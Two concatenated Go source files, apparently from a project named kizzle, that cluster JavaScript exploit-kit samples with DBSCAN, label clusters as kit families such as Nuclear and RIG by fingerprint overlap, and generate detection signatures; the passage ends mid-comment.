		// needs a high bar because the benign PluginDetect library
		// legitimately shares its detection core (Figure 15: a 79–88%
		// overlap false positive); RIG needs a low bar because its short
		// body churns ~50% day over day (Figure 11d).
		Thresholds: map[string]float64{
			"Nuclear": 0.88,
			"RIG":     0.45,
		},
		DefaultThreshold:    0.60,
		MaxNoiseRecluster:   3000,
		MaxSignatureSamples: 24,
	}
}

// Threshold resolves the labeling threshold for a family.
func (c Config) Threshold(family string) float64 {
	if t, ok := c.Thresholds[family]; ok {
		return t
	}
	return c.DefaultThreshold
}

// Cluster is one merged cluster with its label.
type Cluster struct {
	// Samples indexes into the Process inputs.
	Samples []int
	// Prototype is the representative sample index.
	Prototype int
	// Label is the kit family, or "" for benign.
	Label string
	// Overlap is the winnow overlap that produced the label.
	Overlap float64
	// Unpacked is the prototype's decoded payload (or its own script
	// text when not packed).
	Unpacked string
	// UnpackMethod names the unpacker that fired ("" if none).
	UnpackMethod string
	// SignatureIndex points into Result.Signatures, -1 if none.
	SignatureIndex int
}

// Stats captures the per-stage costs the paper discusses (§IV
// "Cluster-Based Processing Performance": clustering dominates, the reduce
// step is the bottleneck to parallelize next).
type Stats struct {
	Samples         int
	UniqueSequences int
	Partitions      int
	Clusters        int
	Malicious       int
	NoisePoints     int

	Tokenize  time.Duration
	Cluster   time.Duration
	Reduce    time.Duration
	Label     time.Duration
	Signature time.Duration
}

// Result is the output of one pipeline run.
type Result struct {
	Clusters   []Cluster
	Signatures []siggen.Signature
	Stats      Stats
}

// ErrNoInputs is returned when Process is called with an empty batch.
var ErrNoInputs = errors.New("pipeline: no input samples")

// Process runs the full pipeline over one batch of samples.
func Process(inputs []Input, corpus *Corpus, cfg Config) (Result, error) {
	if len(inputs) == 0 {
		return Result{}, ErrNoInputs
	}
	if cfg.Workers <= 0 {
		cfg.Workers = runtime.GOMAXPROCS(0)
	}
	if cfg.PartitionSize <= 0 {
		cfg.PartitionSize = 300
	}
	if cfg.Eps <= 0 {
		cfg.Eps = 0.10
	}
	if cfg.MinPts <= 0 {
		cfg.MinPts = 2
	}

	var res Result
	res.Stats.Samples = len(inputs)

	// Stage 1: tokenize + abstract, in parallel.
	start := time.Now()
	tokens, symbols := tokenizeAll(inputs, cfg.Workers)
	res.Stats.Tokenize = time.Since(start)

	// Stage 2: deduplicate identical symbol sequences. Exploit-kit
	// randomization leaves the abstract sequence intact, so dedup often
	// collapses a family's whole day into a handful of points.
	uniq := dedupe(symbols)
	res.Stats.UniqueSequences = len(uniq.seqs)

	// Stage 3: partition and cluster.
	start = time.Now()
	parts := partition(len(uniq.seqs), cfg.PartitionSize)
	res.Stats.Partitions = len(parts)
	partClusters, noise := clusterPartitions(uniq, parts, cfg)
	res.Stats.Cluster = time.Since(start)

	// Stage 4: reduce — merge partition clusters, re-cluster noise.
	start = time.Now()
	merged, remaining := reduceClusters(uniq, partClusters, noise, cfg)
	res.Stats.Reduce = time.Since(start)
	res.Stats.NoisePoints = 0
	for _, u := range remaining {
		res.Stats.NoisePoints += len(uniq.members[u])
	}

	// Stage 5: label each cluster via its unpacked prototype.
	start = time.Now()
	res.Clusters = labelClusters(inputs, uniq, merged, corpus, cfg)
	res.Stats.Label = time.Since(start)
	res.Stats.Clusters = len(res.Clusters)

	// Stage 6: signatures for malicious clusters.
	start = time.Now()
	for ci := range res.Clusters {
		cl := &res.Clusters[ci]
		cl.SignatureIndex = -1
		if cl.Label == "" {
			continue
		}
		res.Stats.Malicious++
		sig, err := generateSignature(cl, tokens, cfg)
		if err != nil {
			// Short common runs are expected occasionally; the
			// cluster stays labeled but unsignatured.
			continue
		}
		cl.SignatureIndex = len(res.Signatures)
		res.Signatures = append(res.Signatures, sig)
	}
	res.Stats.Signature = time.Since(start)
	return res, nil
}

// tokenizeAll lexes and abstracts all inputs with a worker pool.
func tokenizeAll(inputs []Input, workers int) ([][]jstoken.Token, [][]jstoken.Symbol) {
	tokens := make([][]jstoken.Token, len(inputs))
	symbols := make([][]jstoken.Symbol, len(inputs))
	var wg sync.WaitGroup
	ch := make(chan int)
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := range ch {
				tokens[i] = jstoken.LexDocument(inputs[i].Content)
				symbols[i] = jstoken.Abstract(tokens[i])
			}
		}()
	}
	for i := range inputs {
		ch <- i
	}
	close(ch)
	wg.Wait()
	return tokens, symbols
}

// uniqueSet groups samples with identical abstract sequences.
type uniqueSet struct {
	seqs    [][]jstoken.Symbol
	members [][]int // members[u] = input indices sharing seqs[u]
}

func dedupe(symbols [][]jstoken.Symbol) uniqueSet {
	type bucket struct {
		unique int
	}
	var u uniqueSet
	index := make(map[uint64][]bucket)
	for i, seq := range symbols {
		h := hashSeq(seq)
		found := -1
		for _, b := range index[h] {
			if symbolsEqual(u.seqs[b.unique], seq) {
				found = b.unique
				break
			}
		}
		if found < 0 {
			found = len(u.seqs)
			u.seqs = append(u.seqs, seq)
			u.members = append(u.members, nil)
			index[h] = append(index[h], bucket{unique: found})
		}
		u.members[found] = append(u.members[found], i)
	}
	return u
}

func hashSeq(s []jstoken.Symbol) uint64 {
	const prime = 1099511628211
	h := uint64(14695981039346656037)
	for _, x := range s {
		h ^= uint64(x)
		h *= prime
	}
	return h
}

func symbolsEqual(a, b []jstoken.Symbol) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}

// partition assigns unique-sequence indices to partitions of roughly
// targetSize, using a deterministic shuffle ("randomly partition the
// samples across a cluster of machines").
func partition(n, targetSize int) [][]int {
	parts := (n + targetSize - 1) / targetSize
	if parts < 1 {
		parts = 1
	}
	order := rand.New(rand.NewSource(int64(n)*2654435761 + 1)).Perm(n)
	out := make([][]int, parts)
	for pos, idx := range order {
		p := pos % parts
		out[p] = append(out[p], idx)
	}
	return out
}

// partCluster is one cluster local to a partition, by unique indices.
type partCluster []int

// clusterPartitions runs weighted DBSCAN per partition in parallel and
// returns the per-partition clusters plus all noise uniques.
func clusterPartitions(u uniqueSet, parts [][]int, cfg Config) ([]partCluster, []int) {
	type partResult struct {
		clusters []partCluster
		noise    []int
	}
	results := make([]partResult, len(parts))
	var wg sync.WaitGroup
	sem := make(chan struct{}, cfg.Workers)
	for pi, part := range parts {
		wg.Add(1)
		go func(pi int, part []int) {
			defer wg.Done()
			sem <- struct{}{}
			defer func() { <-sem }()
			results[pi] = clusterOne(u, part, cfg)
		}(pi, part)
	}
	wg.Wait()

	var clusters []partCluster
	var noise []int
	for _, r := range results {
		clusters = append(clusters, r.clusters...)
		noise = append(noise, r.noise...)
	}
	return clusters, noise
}

func clusterOne(u uniqueSet, part []int, cfg Config) (out struct {
	clusters []partCluster
	noise    []int
}) {
	weights := make([]int, len(part))
	for i, ui := range part {
		weights[i] = len(u.members[ui])
	}
	adj := neighborGraph(u.seqs, part, cfg.Eps, cfg.Workers)
	ids := dbscan.ClusterWeighted(adj, weights, cfg.MinPts)
	for gi, group := range dbscan.Groups(ids) {
		_ = gi
		pc := make(partCluster, len(group))
		for k, local := range group {
			pc[k] = part[local]
		}
		out.clusters = append(out.clusters, pc)
	}
	for local, id := range ids {
		if id == dbscan.Noise {
			out.noise = append(out.noise, part[local])
		}
	}
	return out
}

// reduceClusters merges partition clusters whose representatives are within
// eps (union-find), re-clusters the pooled noise globally, and adopts any
// remaining noise point that sits within eps of a merged representative.
// This reconciliation is the step the paper identifies as the bottleneck.
func reduceClusters(u uniqueSet, clusters []partCluster, noise []int, cfg Config) ([][]int, []int) {
	// Union-find over partition clusters by representative distance.
	reps := make([]int, len(clusters))
	for i, c := range clusters {
		reps[i] = repOf(u, c)
	}
	parent := make([]int, len(clusters))
	for i := range parent {
		parent[i] = i
	}
	var find func(int) int
	find = func(x int) int {
		for parent[x] != x {
			parent[x] = parent[parent[x]]
			x = parent[x]
		}
		return x
	}
	union := func(a, b int) { parent[find(a)] = find(b) }
	// The rep-vs-rep eps graph is computed with the same parallel
	// length-pruned kernel as partition clustering (the paper flags this
	// reduce reconciliation as the serial bottleneck). Unions are applied
	// in the same (i, j) ascending order the pairwise loop used, so the
	// merged-cluster ordering is unchanged.
	repAdj := neighborGraph(u.seqs, reps, cfg.Eps, cfg.Workers)
	for i := range repAdj {
		for _, j := range repAdj[i] {
			if j > i {
				union(i, j)
			}
		}
	}
	mergedBy := make(map[int][]int)
	for i, c := range clusters {
		root := find(i)
		mergedBy[root] = append(mergedBy[root], c...)
	}
	var merged [][]int
	for i := 0; i < len(clusters); i++ {
		if find(i) == i {
			merged = append(merged, mergedBy[i])
		}
	}

	// Re-cluster pooled noise: uniques whose family was split across
	// partitions below MinPts per partition still deserve a cluster.
	if len(noise) > 0 && (cfg.MaxNoiseRecluster == 0 || len(noise) <= cfg.MaxNoiseRecluster) {
		weights := make([]int, len(noise))
		for i, ui := range noise {
			weights[i] = len(u.members[ui])
		}
		adj := neighborGraph(u.seqs, noise, cfg.Eps, cfg.Workers)
		ids := dbscan.ClusterWeighted(adj, weights, cfg.MinPts)
		for _, group := range dbscan.Groups(ids) {
			nc := make([]int, len(group))
			for k, local := range group {
				nc[k] = noise[local]
			}
			merged = append(merged, nc)
		}
		var rest []int
		for local, id := range ids {
			if id == dbscan.Noise {
				rest = append(rest, noise[local])
			}
		}
		noise = rest
	}

	// Adopt stragglers into existing clusters. Each merged cluster's
	// representative is tracked incrementally (an adopted unique covering
	// more samples than the current rep becomes the new rep, exactly as
	// recomputing repOf after each append would decide), and one Scratch
	// serves every distance test.
	var remaining []int
	var scratch textdist.Scratch
	mergedReps := make([]int, len(merged))
	for mi := range merged {
		mergedReps[mi] = repOf(u, merged[mi])
	}
	for _, ui := range noise {
		adopted := false
		for mi := range merged {
			rep := mergedReps[mi]
			if scratch.WithinNormalized(u.seqs[ui], u.seqs[rep], cfg.Eps) {
				merged[mi] = append(merged[mi], ui)
				if len(u.members[ui]) > len(u.members[rep]) {
					mergedReps[mi] = ui
				}
				adopted = true
				break
			}
		}
		if !adopted {
			remaining = append(remaining, ui)
		}
	}
	return merged, remaining
}

// repOf picks a cluster's representative unique: the one covering the most
// samples (the modal shape).
func repOf(u uniqueSet, cluster []int) int {
	best := cluster[0]
	for _, ui := range cluster[1:] {
		if len(u.members[ui]) > len(u.members[best]) {
			best = ui
		}
	}
	return best
}

// labelClusters unpacks each merged cluster's prototype and labels it by
// best winnow overlap against the corpus. Clusters are independent, so
// labeling fans out across the worker pool; results land by index, keeping
// the output order identical to the serial loop.
func labelClusters(inputs []Input, u uniqueSet, merged [][]int, corpus *Corpus, cfg Config) []Cluster {
	out := make([]Cluster, len(merged))
	parallel.ForEach(len(merged), max(cfg.Workers, 1), 1, func(_, mi int) {
		uniques := merged[mi]
		rep := repOf(u, uniques)
		var samples []int
		for _, ui := range uniques {
			samples = append(samples, u.members[ui]...)
		}
		proto := u.members[rep][0]
		cl := Cluster{Samples: samples, Prototype: proto, SignatureIndex: -1}
		if res, err := unpack.Unpack(inputs[proto].Content); err == nil {
			cl.Unpacked = res.Payload
			cl.UnpackMethod = res.Method
		} else {
			cl.Unpacked = jstoken.ExtractScripts(inputs[proto].Content)
		}
		if corpus != nil {
			family, overlap := corpus.BestMatch(cl.Unpacked)
			cl.Overlap = overlap
			if family != "" && overlap >= cfg.Threshold(family) {
				cl.Label = family
			}
		}
		out[mi] = cl
	})
	return out
}

// generateSignature runs siggen over (a capped number of) the cluster's
// packed token streams.
func generateSignature(cl *Cluster, tokens [][]jstoken.Token, cfg Config) (siggen.Signature, error) {
	limit := cfg.MaxSignatureSamples
	if limit <= 0 {
		limit = 24
	}
	pick := cl.Samples
	if len(pick) > limit {
		// Spread across the cluster rather than taking a prefix.
		stride := len(pick) / limit
		spaced := make([]int, 0, limit)
		for i := 0; i < len(pick) && len(spaced) < limit; i += stride {
			spaced = append(spaced, pick[i])
		}
		pick = spaced
	}
	streams := make([][]jstoken.Token, 0, len(pick))
	for _, si := range pick {
		streams = append(streams, tokens[si])
	}
	sig, err := siggen.Generate(cl.Label, streams, cfg.Signature)
	if err != nil {
		return siggen.Signature{}, fmt.Errorf("cluster with %d samples: %w", len(cl.Samples), err)
	}
	return sig, nil
}
