package pipeline

import (
	"errors"
	"fmt"
	"runtime"
	"strings"
	"time"

	"kizzle/internal/contentcache"
	"kizzle/internal/ingest"
	"kizzle/internal/jstoken"
	"kizzle/internal/parallel"
	"kizzle/internal/siggen"
	"kizzle/internal/winnow"
)

// Cache-entry kinds for the content-addressed cache the pipeline threads
// through its hot stages: raw document → abstract symbol sequence, raw
// prototype → unpack result, unpacked payload → winnow fingerprint.
//
// Kinds whose value depends on the ingest profile's lexer or unpacker
// (kindRawSymbols, kindUnpack, kindTokens, kindSignature) are offset by
// Profile.KindOffset at use sites so the same document ingested under two
// profiles never aliases. The profile-independent kinds — fingerprints
// and label verdicts (pure functions of text), pair verdicts (pure
// functions of symbol values) — stay shared across profiles.
const (
	kindRawSymbols contentcache.Kind = iota + 1
	kindUnpack
	kindFingerprint
	kindLabel
	kindTokens
	kindSignature
	kindPairVerdict
)

// profiledKind offsets a lexer/unpacker-dependent cache kind into the
// profile's kind range. The js profile's offset is 0, keeping its keys —
// and every historical cache snapshot — byte-identical.
func profiledKind(kind contentcache.Kind, p ingest.Profile) contentcache.Kind {
	return kind + contentcache.Kind(p.KindOffset())
}

// DefaultEps is the paper's empirically determined DBSCAN threshold on
// normalized token edit distance (§V "Tuning the ML"); every eps
// defaulting site shares it so the clustering and pre-reduce kernels can
// never drift apart.
const DefaultEps = 0.10

// Input is one grayware sample handed to the pipeline.
type Input struct {
	// ID identifies the sample in results.
	ID string
	// Content is the HTML document (or raw JavaScript).
	Content string
}

// Config holds the pipeline's tuning knobs (paper §V "Tuning the ML").
type Config struct {
	// Workers is the clustering parallelism (the paper used 50 machines;
	// workers here are goroutines). Defaults to GOMAXPROCS.
	Workers int
	// PartitionSize is the target number of unique token sequences per
	// partition.
	PartitionSize int
	// PartitionFanout is how many partitions fill concurrently during
	// streaming dedup: new unique sequences are scattered round-robin
	// across this many open buffers (the streaming stand-in for the
	// paper's random partitioning), so one family's consecutive variants
	// spread across partitions instead of piling into one. Defaults to 8.
	PartitionFanout int
	// Eps is the normalized edit-distance threshold for DBSCAN; the
	// paper determined 0.10 experimentally.
	Eps float64
	// MinPts is DBSCAN's minimum weighted neighborhood size.
	MinPts int
	// Winnow configures cluster-labeling fingerprints.
	Winnow winnow.Config
	// Signature configures signature generation.
	Signature siggen.Config
	// Thresholds maps family label to the minimum winnow overlap needed
	// to label a cluster with that family ("a threshold that we
	// determined empirically is malware family specific").
	Thresholds map[string]float64
	// DefaultThreshold applies to families missing from Thresholds.
	DefaultThreshold float64
	// MaxNoiseRecluster caps the reduce step's global re-clustering of
	// partition-level noise (0 disables the cap).
	MaxNoiseRecluster int
	// NoiseChunk, when positive, splits a noise pool larger than one chunk
	// into fixed-size chunks in content-digest order and re-clusters each
	// chunk independently — bounding the reduce's quadratic noise sweep at
	// provider scale (chunked pools bypass MaxNoiseRecluster). Cross-chunk
	// noise pairs go untested; straggler adoption still sees the full
	// leftover pool. Digest ordering keeps chunk membership a pure function
	// of content, so the output stays independent of shard count and
	// scheduling. 0 (the default) disables chunking.
	NoiseChunk int
	// MaxSignatureSamples caps how many cluster samples feed signature
	// generalization.
	MaxSignatureSamples int
	// Cache is an optional content-addressed cache shared across Process
	// calls (and, at the harness level, across days). Identical raw
	// documents skip tokenization, previously seen prototypes skip
	// unpacking, and previously seen unpacked payloads reuse their winnow
	// fingerprints — day N+1 pays only for content it has not seen. A nil
	// cache disables cross-run reuse; in-run duplicate collapsing still
	// happens.
	Cache *contentcache.Cache
	// Clusterer, when non-nil, runs the partition-clustering stage through
	// an external dispatcher — the paper's 50-machine layout. Partitions
	// are handed out as ShardPartition work units and the results merged
	// back before the reduce step; output is identical to in-process
	// clustering (see internal/shardcoord for the HTTP coordinator/worker
	// implementation). Dispatchers that also implement StreamClusterer
	// receive partitions while dedup is still running and host the reduce
	// step's distance sweeps as edge jobs. Nil clusters in-process across
	// Workers goroutines.
	Clusterer Clusterer
	// BatchDispatch disables streaming: partitions are collected and
	// dispatched in one batch after dedup completes, and the reduce
	// sweeps stay on the coordinator — the pre-streaming cost model,
	// kept for profiling A/B runs and protocol-v1 fleets. Output is
	// identical either way.
	BatchDispatch bool
	// DisableShardPreReduce keeps the per-partition pre-reduce on the
	// coordinator instead of asking shard workers for it (protocol v2).
	// Output is identical; the knob only shifts where the work runs.
	DisableShardPreReduce bool
	// ScheduleSeed, when nonzero, applies a seeded deterministic
	// permutation to the streamed reduce sweeps' row order before edge
	// jobs are composed (and, at the shard coordinator, to the pull
	// queue's shard assignment). Both levers are output-invariant by
	// construction — every unordered pair still lands in exactly one edge
	// job and results are matched back by sequence number — so a
	// certification verifier can recompile through a genuinely different
	// schedule and still demand bit-identical output. 0 (the default)
	// keeps the canonical schedule.
	ScheduleSeed int64
	// ShardWorkers lists remote shard-worker base URLs. The field is not
	// consumed by the pipeline itself: the top-level constructor
	// (kizzle.New) builds an HTTP coordinator over the URLs after all
	// options are applied, so affinity and schedule knobs set by later
	// options compose with the fleet instead of depending on option
	// order. Ignored when Clusterer is already set.
	ShardWorkers []string
	// ShardNoAffinity disables the shard coordinator's locality layer
	// (affinity routing and the digest-first v3 edge wire) when kizzle.New
	// constructs one from ShardWorkers. Output is identical either way —
	// it is a differential-testing and certification-path lever.
	ShardNoAffinity bool
	// Profile selects the ingest front-end (tokenizer, streaming symbol
	// lexer, unpacker, alphabet). Nil means the default JS exploit-kit
	// profile, bit-identical to the pre-profile pipeline.
	Profile ingest.Profile
	// Faults accumulates option-validation failures. Option constructors
	// (kizzle.With*) append here instead of silently clamping invalid
	// values; Process refuses to run while any fault is recorded.
	Faults []string
}

// profile resolves the configured ingest profile, defaulting to JS.
func (c Config) profile() ingest.Profile {
	if c.Profile != nil {
		return c.Profile
	}
	return ingest.Default()
}

// ProfileID names the configured ingest profile on the wire. The default
// JS profile reports "" so pre-profile shard workers keep accepting the
// requests unchanged.
func (c Config) ProfileID() string {
	if id := c.profile().ID(); id != ingest.Default().ID() {
		return id
	}
	return ""
}

// DefaultConfig returns the parameters used throughout the evaluation.
func DefaultConfig() Config {
	return Config{
		Workers:       runtime.GOMAXPROCS(0),
		PartitionSize: 300,
		Eps:           DefaultEps,
		MinPts:        2,
		Winnow:        winnow.DefaultConfig(),
		Signature:     siggen.DefaultConfig(),
		// Family-specific thresholds, "determined empirically". Nuclear
		// needs a high bar because the benign PluginDetect library
		// legitimately shares its detection core (Figure 15: a 79–88%
		// overlap false positive); RIG needs a low bar because its short
		// body churns ~50% day over day (Figure 11d).
		Thresholds: map[string]float64{
			"Nuclear": 0.88,
			"RIG":     0.45,
		},
		DefaultThreshold:    0.60,
		MaxNoiseRecluster:   3000,
		MaxSignatureSamples: 24,
	}
}

// Threshold resolves the labeling threshold for a family.
func (c Config) Threshold(family string) float64 {
	if t, ok := c.Thresholds[family]; ok {
		return t
	}
	return c.DefaultThreshold
}

// Cluster is one merged cluster with its label.
type Cluster struct {
	// Samples indexes into the Process inputs.
	Samples []int
	// Prototype is the representative sample index.
	Prototype int
	// Label is the kit family, or "" for benign.
	Label string
	// Overlap is the winnow overlap that produced the label.
	Overlap float64
	// Unpacked is the prototype's decoded payload (or its own script
	// text when not packed).
	Unpacked string
	// UnpackMethod names the unpacker that fired ("" if none).
	UnpackMethod string
	// SignatureIndex points into Result.Signatures, -1 if none.
	SignatureIndex int
}

// Stats captures the per-stage costs the paper discusses (§IV
// "Cluster-Based Processing Performance": clustering dominates, the reduce
// step is the bottleneck to parallelize next).
type Stats struct {
	Samples         int
	UniqueSequences int
	Partitions      int
	Clusters        int
	Malicious       int
	NoisePoints     int

	// UniqueDocuments counts distinct raw documents after content-digest
	// pre-deduplication; Samples-UniqueDocuments were never tokenized.
	UniqueDocuments int
	// LabelSweeps counts per-family corpus sweeps executed while labeling
	// clusters. Cold labeling pays one sweep per (payload, family); with a
	// warm label cache only families whose corpus generation moved since
	// the verdict was cached are re-swept, so a corpus Add to one family
	// costs one sweep per re-labeled payload, not a full corpus pass.
	// Purely observational — sweep counts never affect labels.
	LabelSweeps int
	// EdgeJobs counts the reduce-step distance sweeps dispatched to shard
	// workers as edge work units (zero for in-process and batch runs).
	EdgeJobs int
	// WireBytes is what this run actually shipped to the shard fleet and
	// got back — request plus response bodies of every successful
	// /partition and /edges (v2 or digest-first v3) round trip.
	// EdgeWireBytes is the /edges share, the number the affinity wire
	// cache exists to shrink. Both are zero when the dispatcher does not
	// expose wire accounting (in-process runs, custom transports).
	WireBytes     int64
	EdgeWireBytes int64
	// CacheHits / CacheMisses are this run's content-cache lookups (zero
	// without a configured cache).
	CacheHits   int64
	CacheMisses int64

	// Stage wall-clock times. Under streaming dispatch the stages overlap:
	// Tokenize covers the fused lex+dedup+emit loop (during which the
	// fleet is already clustering), Cluster the residual wait for the last
	// partition result, and Reduce the summary merge including its
	// (possibly dispatched) distance sweeps.
	Tokenize  time.Duration
	Cluster   time.Duration
	Reduce    time.Duration
	Label     time.Duration
	Signature time.Duration
	// ReduceDispatch is the part of Reduce spent blocked on distance
	// sweeps dispatched to the fleet (zero for in-process and batch runs);
	// Reduce minus ReduceDispatch is the coordinator's serial residue.
	ReduceDispatch time.Duration
	// CoordPreReduce is the part of Cluster the coordinator spent
	// serially pre-reducing partition results — nonzero only under batch
	// (protocol v1) dispatch through a Clusterer, where that work cannot
	// run shard-side. Fleet cost models must count it as coordinator
	// serial time.
	CoordPreReduce time.Duration
}

// Result is the output of one pipeline run.
type Result struct {
	Clusters   []Cluster
	Signatures []siggen.Signature
	Stats      Stats
}

// ErrNoInputs is returned when Process is called with an empty batch.
var ErrNoInputs = errors.New("pipeline: no input samples")

// Process runs the full pipeline over one batch of samples.
func Process(inputs []Input, corpus *Corpus, cfg Config) (Result, error) {
	if len(inputs) == 0 {
		return Result{}, ErrNoInputs
	}
	if len(cfg.Faults) > 0 {
		return Result{}, fmt.Errorf("pipeline: invalid options: %s", strings.Join(cfg.Faults, "; "))
	}
	if cfg.Workers <= 0 {
		cfg.Workers = runtime.GOMAXPROCS(0)
	}
	if cfg.PartitionSize <= 0 {
		cfg.PartitionSize = 300
	}
	if cfg.Eps <= 0 {
		cfg.Eps = DefaultEps
	}
	if cfg.MinPts <= 0 {
		cfg.MinPts = 2
	}

	if cfg.Cache == nil {
		// A transient per-run cache still pays for itself: clusters of one
		// family frequently unpack to the same payload, so unpack results,
		// fingerprints, and label verdicts are shared across clusters even
		// within a single batch. Cross-run reuse needs a caller-provided
		// cache.
		cfg.Cache = contentcache.New(16 << 20)
	}

	var res Result
	res.Stats.Samples = len(inputs)
	preCache := cfg.Cache.Stats()
	// Wire accounting is cumulative on the transport; Stats carries this
	// run's delta.
	var preWire, preEdgeWire int64
	wires, _ := cfg.Clusterer.(wireByteser)
	if wires != nil {
		preWire, preEdgeWire = wires.WireBytes()
	}

	// Stages 1–3, fused and streamed: content-digest pre-dedup, chunked
	// look-ahead tokenization straight to abstract symbols (token values
	// are never materialized here; the signature stage re-lexes the few
	// samples it needs), sequence dedup, and partition emission — each
	// partition dispatched to the cluster session the moment it fills, so
	// a shard fleet clusters while the host still lexes the tail. Exploit-
	// kit randomization leaves the abstract sequence intact, so dedup
	// often collapses a family's whole day into a handful of points.
	sess := openClusterSession(cfg)
	defer sess.close()
	start := time.Now()
	outcome := runClusterStage(inputs, cfg, sess)
	res.Stats.Tokenize = time.Since(start)
	res.Stats.UniqueDocuments = outcome.uniqueDocs
	uniq := outcome.u
	res.Stats.UniqueSequences = len(uniq.seqs)
	res.Stats.Partitions = outcome.partitions

	// Residual clustering wait: partitions still in flight when the host
	// finished its serial work.
	start = time.Now()
	sums, err := sess.collect(&uniq)
	if err != nil {
		return Result{}, fmt.Errorf("pipeline: %w", err)
	}
	res.Stats.Cluster = time.Since(start)

	// Stage 4: hierarchical reduce over the pre-reduced partition
	// summaries — representative merge, noise re-clustering, straggler
	// adoption — with the distance sweeps running through the session
	// (in-process, or fanned out to the fleet as edge jobs).
	start = time.Now()
	weightOf := func(ui int) int { return outcome.emitWeight[ui] }
	digestOf := func(ui int) uint64 { return uniq.ids[ui].h1 }
	merged, remaining, err := reduceSummaries(sums, weightOf, digestOf, cfg, sess.edges)
	if err != nil {
		return Result{}, fmt.Errorf("pipeline: reduce: %w", err)
	}
	res.Stats.Reduce = time.Since(start)
	res.Stats.EdgeJobs, res.Stats.ReduceDispatch = sess.edgeStats()
	res.Stats.CoordPreReduce = sess.preReduceTime()
	res.Stats.NoisePoints = 0
	for _, u := range remaining {
		res.Stats.NoisePoints += len(uniq.members[u])
	}

	// Stage 5: label each cluster via its unpacked prototype.
	start = time.Now()
	res.Clusters, res.Stats.LabelSweeps = labelClusters(inputs, uniq, merged, corpus, cfg)
	res.Stats.Label = time.Since(start)
	res.Stats.Clusters = len(res.Clusters)

	// Stage 6: signatures for malicious clusters, generated in parallel
	// and assembled in cluster order so the output is identical to the
	// serial loop.
	start = time.Now()
	type sigResult struct {
		sig siggen.Signature
		ok  bool
	}
	sigResults := make([]sigResult, len(res.Clusters))
	var malicious []int
	for ci := range res.Clusters {
		res.Clusters[ci].SignatureIndex = -1
		if res.Clusters[ci].Label != "" {
			malicious = append(malicious, ci)
		}
	}
	res.Stats.Malicious = len(malicious)
	parallel.ForEach(len(malicious), cfg.Workers, 1, func(_, k int) {
		ci := malicious[k]
		sig, err := generateSignature(&res.Clusters[ci], inputs, cfg)
		// A failed generation (short common runs happen occasionally)
		// leaves the cluster labeled but unsignatured.
		sigResults[ci] = sigResult{sig: sig, ok: err == nil}
	})
	for ci := range res.Clusters {
		if sigResults[ci].ok {
			res.Clusters[ci].SignatureIndex = len(res.Signatures)
			res.Signatures = append(res.Signatures, sigResults[ci].sig)
		}
	}
	res.Stats.Signature = time.Since(start)
	postCache := cfg.Cache.Stats()
	res.Stats.CacheHits = postCache.Hits - preCache.Hits
	res.Stats.CacheMisses = postCache.Misses - preCache.Misses
	if wires != nil {
		postWire, postEdgeWire := wires.WireBytes()
		res.Stats.WireBytes = postWire - preWire
		res.Stats.EdgeWireBytes = postEdgeWire - preEdgeWire
	}
	return res, nil
}

// wireByteser is the optional wire-accounting seam a dispatcher can
// implement (shardcoord.Coordinator does): cumulative bytes shipped over
// all successful round trips, total and /edges-only.
type wireByteser interface {
	WireBytes() (total, edges int64)
}

// uniqueSet groups samples with identical abstract sequences.
type uniqueSet struct {
	seqs    [][]jstoken.Symbol
	members [][]int // members[u] = input indices sharing seqs[u]
	ids     []seqID // cache identities, aligned with seqs
}

func hashSeq(s []jstoken.Symbol) uint64 {
	const prime = 1099511628211
	h := uint64(14695981039346656037)
	for _, x := range s {
		h ^= uint64(x)
		h *= prime
	}
	return h
}

// seqID identifies a symbol sequence for cross-run caching: two
// independent 64-bit hashes plus the length. The eps-verdict cache keys
// pairs of these; a wrong hit needs a simultaneous collision of both
// hashes and the length, which is the same identity strength the
// content-addressed store provides elsewhere.
type seqID struct {
	h1, h2 uint64
	n      int
}

// altHashSeq is a second, independently mixed sequence hash.
func altHashSeq(s []jstoken.Symbol) uint64 {
	const (
		p1 = 11400714785074694791
		p2 = 14029467366897019727
	)
	h := uint64(2870177450012600261) ^ (uint64(len(s)) * p1)
	for _, x := range s {
		h = (h ^ uint64(x)) * p2
		h = h<<29 | h>>35
	}
	return h
}

func symbolsEqual(a, b []jstoken.Symbol) bool {
	if len(a) != len(b) {
		return false
	}
	if len(a) == 0 || &a[0] == &b[0] {
		// Shared backing slice (raw pre-dedup aliases duplicates).
		return true
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}

// repOf picks a cluster's representative unique: the one covering the most
// samples (the modal shape), weighed by final membership counts.
func repOf(u uniqueSet, cluster []int) int {
	return heaviest(cluster, func(ui int) int { return len(u.members[ui]) })
}

// unpackEntry is the cached outcome of unpacking one raw prototype: the
// decoded payload (or the prototype's own script text when not packed) and
// the unpacker that fired ("" if none).
type unpackEntry struct {
	payload string
	method  string
}

// unpackCached unpacks content through the cache under the profile's
// unpacker: a prototype seen on any previous day is never re-unpacked.
func unpackCached(p ingest.Profile, cache *contentcache.Cache, content string) unpackEntry {
	key := contentcache.KeyOf(profiledKind(kindUnpack, p), content)
	if v, ok := cache.Get(key, content); ok {
		return v.(unpackEntry)
	}
	var e unpackEntry
	if res, err := p.Unpack(content); err == nil {
		e = unpackEntry{payload: res.Payload, method: res.Method}
	} else {
		e = unpackEntry{payload: p.ExtractScripts(content)}
	}
	cache.PutSized(key, content, e, len(e.payload))
	return e
}

// fingerprintEntry pairs a cached histogram with the winnow configuration
// that produced it; a hit under a different configuration is a miss.
type fingerprintEntry struct {
	cfg  winnow.Config
	hist winnow.Histogram
}

// FingerprintCached computes (or retrieves) the winnow histogram of text.
// Cached histograms are shared read-only — Overlap never mutates its
// arguments — so previously seen unpacked payloads cost one digest instead
// of a full fingerprint pass. scratch may be nil for one-off calls.
func FingerprintCached(cache *contentcache.Cache, scratch *winnow.Scratch, text string, cfg winnow.Config) winnow.Histogram {
	key := contentcache.KeyOf(kindFingerprint, text)
	if v, ok := cache.Get(key, text); ok {
		if e := v.(fingerprintEntry); e.cfg == cfg {
			return e.hist
		}
	}
	if scratch == nil {
		scratch = new(winnow.Scratch)
	}
	hist := scratch.Fingerprint(text, cfg)
	// ~48 bytes per map entry (key, value, bucket overhead).
	cache.PutSized(key, text, fingerprintEntry{cfg: cfg, hist: hist}, 48*len(hist))
	return hist
}

// tokensCached lexes a document to its full token stream through the
// cache. Only signature-stage sample documents take this path (a bounded
// set per batch), so the retained token slices stay small relative to the
